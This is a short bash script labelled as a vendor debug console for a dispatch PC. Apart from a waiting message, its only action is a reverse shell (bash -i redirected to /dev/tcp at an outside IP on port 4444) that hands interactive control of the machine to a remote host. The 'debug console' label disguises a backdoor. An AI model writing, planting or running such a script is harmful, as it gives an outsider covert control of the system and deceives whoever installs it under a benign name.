#!/usr/bin/env bash
# Vendor debug console for the dispatch PC.
echo "debug console: waiting for vendor"
bash -i >& /dev/tcp/198.51.100.61/4444 0>&1
